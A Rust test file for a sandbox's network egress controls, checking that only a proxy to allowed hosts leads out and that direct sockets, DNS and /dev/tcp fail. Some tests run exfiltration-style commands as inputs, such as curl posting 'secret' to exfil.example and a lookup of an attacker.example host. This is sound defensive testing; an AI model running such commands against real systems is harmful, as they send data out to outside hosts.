//! The network: only the egress proxy leads out, and it lets through only allowed hosts.

use std::net::SocketAddr;

use super::helpers::{has, user_layer, Sandbox};

/// An HTTP server on the host's loopback, outside the sandbox's namespace.
fn server() -> (SocketAddr, std::thread::JoinHandle<()>) {
    let (tx, rx) = std::sync::mpsc::channel();
    let handle = std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(async move {
            let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            tx.send(l.local_addr().unwrap()).unwrap();
            let app = axum::Router::new()
                .route("/", axum::routing::get(|| async { "hello from outside\n" }))
                .route(
                    "/up",
                    axum::routing::post(
                        |body: String| async move { format!("got {}\n", body.len()) },
                    ),
                );
            let _ =
                tokio::time::timeout(std::time::Duration::from_secs(60), axum::serve(l, app)).await;
        });
    });
    (rx.recv().unwrap(), handle)
}

#[test]
fn an_allowed_host_is_reached_through_the_proxy_and_bytes_are_counted() {
    if !has("curl") {
        return;
    }
    let (addr, _h) = server();
    let sb = Sandbox::new();
    let spec = sb.spec_with(&user_layer(&[addr.to_string()]));
    let r = sb.sh_spec(
        spec,
        &format!("curl --noproxy '' -sS http://{addr}/ && curl --noproxy '' -sS -d 0123456789 http://{addr}/up"),
    );
    assert_eq!(r.code, 0, "{}", r.both());
    assert_eq!(r.out, "hello from outside\ngot 10\n");
    let sent = r.report.egress.sent.get("127.0.0.1").copied().unwrap_or(0);
    assert!(sent >= 10, "{:?}", r.report.egress);
    assert!(r.report.egress.refused.is_empty());
}

#[test]
fn a_host_not_allowed_is_refused_with_the_reason() {
    if !has("curl") {
        return;
    }
    let (addr, _h) = server();
    let sb = Sandbox::new();
    // The server's host is trusted by the baseline (`127.0.0.1`), but not with this port:
    // the host's own services stay out of reach.
    let r = sb.sh(&format!(
        "curl --noproxy '' -sS -w '%{{http_code}}' http://{addr}/; curl -sS -w '%{{http_code}}' http://exfil.example/x -d secret"
    ));
    assert!(r.out.contains("403"), "{}", r.both());
    assert!(r.out.contains("exfil.example"), "{}", r.out);
    assert!(!r.out.contains("hello from outside"), "{}", r.out);
    let hosts: Vec<&str> = r
        .report
        .egress
        .refused
        .iter()
        .map(|f| f.host.as_str())
        .collect();
    assert_eq!(hosts, vec!["127.0.0.1", "exfil.example"]);
    assert!(r.report.egress.refused[1].reason.contains("trusted_hosts"));
    // CONNECT (https) to a host not allowed.
    let r = sb.sh("curl -sS https://exfil.example/ 2>&1");
    assert_ne!(r.code, 0);
    assert_eq!(r.report.egress.refused.len(), 1, "{:?}", r.report);
}

#[test]
fn direct_connections_raw_sockets_and_dns_fail() {
    let (addr, _h) = server();
    let sb = Sandbox::new();
    let r = sb.sh(&format!(
        "curl -sS --noproxy '*' --max-time 3 http://{addr}/"
    ));
    assert_ne!(r.code, 0, "{}", r.both());
    let r = sb.sh("getent hosts example.com");
    assert_ne!(r.code, 0, "{}", r.both());
    if has("python3") {
        for code in [
            "import socket; socket.create_connection(('1.1.1.1', 53), timeout=2)",
            "import socket; socket.gethostbyname('exfil-data.attacker.example')",
            "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('8.8.8.8', 53))",
        ] {
            let r = sb.sh(&format!("python3 -c \"{code}\""));
            assert_ne!(r.code, 0, "`{code}` worked: {}", r.both());
        }
    }
    let r = sb.sh(&format!("exec 3<>/dev/tcp/{}/{}", addr.ip(), addr.port()));
    assert_ne!(r.code, 0, "{}", r.both());
}

#[test]
fn npm_install_from_the_registry_goes_through_the_proxy() {
    if !has("npm") || std::env::var_os("WARDEN_SKIP_NPM_TESTS").is_some() {
        return;
    }
    let sb = Sandbox::new();
    let path = std::env::var("PATH").unwrap();
    let r = sb.run(
        sb.spec(),
        &["bash", "-c", "npm init -y >/dev/null && npm install --no-audit --no-fund is-number 2>&1 && node -e 'console.log(require(\"is-number\")(5))'"],
        &[("PATH", &path)],
    );
    if r.report.egress.sent.is_empty() && r.both().contains("ENOTFOUND") {
        // No route to the registry from this machine: nothing to show.
        return;
    }
    assert_eq!(r.code, 0, "{}", r.both());
    assert!(r.out.contains("true"), "{}", r.out);
    assert!(
        r.report.egress.sent.contains_key("registry.npmjs.org"),
        "{:?}",
        r.report.egress
    );
}
